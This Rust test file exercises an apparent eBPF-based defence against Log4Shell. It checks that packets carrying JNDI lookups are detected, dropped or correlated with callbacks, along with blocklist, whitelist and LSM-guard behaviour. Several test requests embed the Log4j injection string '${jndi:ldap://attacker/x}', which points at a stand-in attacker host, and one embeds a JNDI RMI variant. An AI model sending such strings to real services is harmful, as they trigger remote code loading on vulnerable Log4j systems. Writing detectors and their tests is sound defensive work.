use elogj::config::Config;
use elogj::egress::{try_egtrf, TC_ACT_PIPE, TC_ACT_SHOT};
use elogj::ingress::{try_intrf, XDP_DROP, XDP_PASS};
use elogj::lsm::{try_bpflsm, LsmState, BPF_MAP_LOOKUP_ELEM, BPF_MAP_UPDATE_ELEM, BPF_PROG_LOAD};
use elogj::state::TrfState;

const VICTIM: u32 = 0x0a00_0001;
const ATTACKER: u32 = 0xc0a8_0101;

fn header_seq() -> Vec<u8> {
    vec![88, 45, 65, 112, 105, 45, 86, 101, 114, 115, 105, 111, 110]
}

fn default_config(rule_set: [u32; 4]) -> Config {
    Config::new(header_seq(), 76, rule_set)
}

fn make_packet(saddr: u32, daddr: u32, proto: u8, sport: u16, dport: u16, payload: &[u8]) -> Vec<u8> {
    let mut p = vec![0u8; 66];
    p[12] = 0x08;
    p[13] = 0x00;
    p[23] = proto;
    p[26..30].copy_from_slice(&saddr.to_be_bytes());
    p[30..34].copy_from_slice(&daddr.to_be_bytes());
    p[34..36].copy_from_slice(&sport.to_be_bytes());
    p[36..38].copy_from_slice(&dport.to_be_bytes());
    p.extend_from_slice(payload);
    p
}

fn http_request(value: &str) -> Vec<u8> {
    let mut req = format!(
        "GET / HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-agent: curl/7.81.0\r\nAccept: */*\r\nX-Api-Version: {}\r\n\r\n",
        value
    )
    .into_bytes();
    while req.len() < 110 {
        req.push(b' ');
    }
    req
}

#[test]
fn clean_get_passes() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    let out = make_packet(VICTIM, ATTACKER, 6, 40000, 8080, &http_request("benign"));
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_PIPE);
    let ev = ev.unwrap();
    assert_eq!(ev.etype, 0);
    assert_eq!(ev.eroute, [VICTIM, ATTACKER]);
    assert_eq!(ev.eaction, [0, 0]);
    assert_eq!(ev.elvls, [0, 0, 0]);
    assert_eq!(st.lookups.len(), 0);
    assert_eq!(st.blocklist.len(), 0);

    // the server's reply, one extra server-side packet later
    st.update_RTX(ATTACKER);
    let mut resp = b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\n".to_vec();
    while resp.len() < 110 {
        resp.push(b' ');
    }
    let inp = make_packet(ATTACKER, VICTIM, 6, 8080, 40000, &resp);
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_PASS);
    let ev = ev.unwrap();
    assert_eq!(ev.etype, 1);
    assert_eq!(ev.eaction, [0, 0]);
    assert_eq!(ev.elvls, [1, 2, 0]);
}

#[test]
fn jndi_lookup_detected_lookup_mode() {
    let cfg = default_config([0, 0, 1, 0]);
    let mut st = TrfState::new();
    let out = make_packet(
        VICTIM,
        ATTACKER,
        6,
        40000,
        8080,
        &http_request("${jndi:ldap://attacker/x}"),
    );
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_PIPE);
    let ev = ev.unwrap();
    assert_eq!(ev.elvls, [1, 1, 1]);
    assert_eq!(ev.eaction, [0, 0]);
    assert_eq!(st.lookups.get(ATTACKER), Some(1));

    // the attacker-driven callback
    st.update_RTX(ATTACKER);
    let mut callback = b"GET /malicious HTTP/1.1\r\nHost: victim\r\n\r\n".to_vec();
    while callback.len() < 110 {
        callback.push(b' ');
    }
    let inp = make_packet(ATTACKER, VICTIM, 6, 44000, 40000, &callback);
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_DROP);
    let ev = ev.unwrap();
    assert_eq!(ev.eaction[0], 1);
    assert_eq!(ev.elvls, [1, 1, 0]);
    assert_eq!(st.blocklist.get(VICTIM), Some(1));
    assert_eq!(st.lookups.get(ATTACKER), None);
    assert_eq!(st.lookups.len(), 0);
}

#[test]
fn jndi_request_blocked_request_mode() {
    let cfg = default_config([0, 0, 2, 0]);
    let mut st = TrfState::new();
    let out = make_packet(
        VICTIM,
        ATTACKER,
        6,
        40000,
        8080,
        &http_request("${jndi:ldap://attacker/x}"),
    );
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_SHOT);
    let ev = ev.unwrap();
    assert_eq!(ev.eaction, [1, 0]);
    assert_eq!(ev.elvls, [1, 1, 1]);
    assert_eq!(st.lookups.len(), 0);
}

#[test]
fn jndi_plain_lookup_without_ldap() {
    let cfg = default_config([0, 0, 2, 0]);
    let mut st = TrfState::new();
    let out = make_packet(VICTIM, ATTACKER, 6, 40000, 8080, &http_request("${jndi:rmi://a/b}"));
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_SHOT);
    assert_eq!(ev.unwrap().elvls, [1, 1, 0]);
}

#[test]
fn whitelist_override_ingress() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    st.block_addr(VICTIM);
    st.whitelist_addr(VICTIM);
    let inp = make_packet(ATTACKER, VICTIM, 6, 44000, 40000, b"");
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_PASS);
    let ev = ev.unwrap();
    assert_eq!(ev.eaction, [0, 1]);
}

#[test]
fn blocklisted_destination_dropped_ingress() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    st.block_addr(VICTIM);
    let inp = make_packet(ATTACKER, VICTIM, 6, 44000, 40000, b"");
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_DROP);
    assert_eq!(ev.unwrap().eaction, [1, 0]);
}

#[test]
fn whitelist_override_egress() {
    let cfg = default_config([0, 0, 2, 0]);
    let mut st = TrfState::new();
    st.whitelist_addr(VICTIM);
    let out = make_packet(
        VICTIM,
        ATTACKER,
        6,
        40000,
        8080,
        &http_request("${jndi:ldap://attacker/x}"),
    );
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_PIPE);
    assert_eq!(ev.unwrap().eaction, [0, 1]);
}

#[test]
fn whitelisted_source_still_arms_lookups() {
    let cfg = default_config([0, 0, 1, 0]);
    let mut st = TrfState::new();
    st.whitelist_addr(VICTIM);
    let out = make_packet(
        VICTIM,
        ATTACKER,
        6,
        40000,
        8080,
        &http_request("${jndi:ldap://attacker/x}"),
    );
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_PIPE);
    assert_eq!(ev.unwrap().eaction, [0, 1]);
    // the override clears the drop, not the correlator
    assert_eq!(st.lookups.get(ATTACKER), Some(1));
}

#[test]
fn blocklisted_source_dropped_egress() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    st.block_addr(VICTIM);
    let out = make_packet(VICTIM, ATTACKER, 6, 40000, 8080, &http_request("benign"));
    let (action, ev) = try_egtrf(&out, &mut st, &cfg);
    assert_eq!(action, TC_ACT_SHOT);
    assert_eq!(ev.unwrap().eaction, [1, 0]);
}

#[test]
fn ldap_response_shape() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    let mut payload = vec![0x30u8, 0x82, 0x01, 0x10, 0x02, 100];
    while payload.len() < 120 {
        payload.push(0);
    }
    let inp = make_packet(ATTACKER, VICTIM, 6, 389, 40000, &payload);
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_PASS);
    let ev = ev.unwrap();
    assert_eq!(ev.elvls, [1, 120, 100]);
}

#[test]
fn ldap_port_rule_drops() {
    let cfg = default_config([0, 1, 0, 0]);
    let mut st = TrfState::new();
    let mut payload = vec![0x30u8, 0, 0, 0, 0, 97];
    while payload.len() < 120 {
        payload.push(0);
    }
    let inp = make_packet(ATTACKER, VICTIM, 6, 636, 40000, &payload);
    let (action, ev) = try_intrf(&inp, &mut st, &cfg);
    assert_eq!(action, XDP_DROP);
    assert_eq!(ev.unwrap().eaction, [1, 0]);
}

#[test]
fn non_ipv4_passes_without_event() {
    let cfg = default_config([1, 1, 1, 1]);
    let mut st = TrfState::new();
    let mut arp = vec![0u8; 60];
    arp[12] = 0x08;
    arp[13] = 0x06;
    let (action, ev) = try_intrf(&arp, &mut st, &cfg);
    assert_eq!(action, XDP_PASS);
    assert!(ev.is_none());
    let (action, ev) = try_egtrf(&arp, &mut st, &cfg);
    assert_eq!(action, TC_ACT_PIPE);
    assert!(ev.is_none());
    assert_eq!(st.rtx.len(), 0);
}

#[test]
fn truncated_frame_fails_open() {
    let cfg = default_config([0, 0, 0, 0]);
    let mut st = TrfState::new();
    let mut short = vec![0u8; 20];
    short[12] = 0x08;
    short[13] = 0x00;
    let (action, ev) = try_intrf(&short, &mut st, &cfg);
    assert_eq!(action, XDP_PASS);
    assert!(ev.is_none());
}

#[test]
fn lsm_armed_denial() {
    let mut st = LsmState::new();
    for _ in 0..4 {
        let r = try_bpflsm(&mut st, BPF_MAP_UPDATE_ELEM, 0, 42);
        assert_eq!(r, 0);
    }
    assert_eq!(st.counter, 0);
    assert_eq!(st.bootpid, Some(42));
    let r = try_bpflsm(&mut st, BPF_MAP_UPDATE_ELEM, 0, 99);
    assert!(r < 0);
}

#[test]
fn lsm_boot_and_armed_phases() {
    let mut st = LsmState::new();
    // during boot, non-matching calls are allowed and not counted
    assert_eq!(try_bpflsm(&mut st, BPF_MAP_LOOKUP_ELEM, 3, 7), 0);
    assert_eq!(st.counter, 4);
    assert_eq!(st.bootpid, None);
    // a foreign pid cannot advance the countdown past the first record
    assert_eq!(try_bpflsm(&mut st, BPF_MAP_UPDATE_ELEM, 0, 42), 0);
    assert_eq!(try_bpflsm(&mut st, BPF_MAP_UPDATE_ELEM, 0, 99), 0);
    assert_eq!(st.counter, 3);
    assert_eq!(st.bootpid, Some(42));
    for _ in 0..3 {
        assert_eq!(try_bpflsm(&mut st, BPF_MAP_UPDATE_ELEM, 0, 42), 0);
    }
    assert_eq!(st.counter, 0);
    // armed: map accesses denied from any pid, program loads still allowed
    assert!(try_bpflsm(&mut st, BPF_MAP_LOOKUP_ELEM, 0, 42) < 0);
    assert_eq!(try_bpflsm(&mut st, BPF_PROG_LOAD, 0, 99), 0);
}
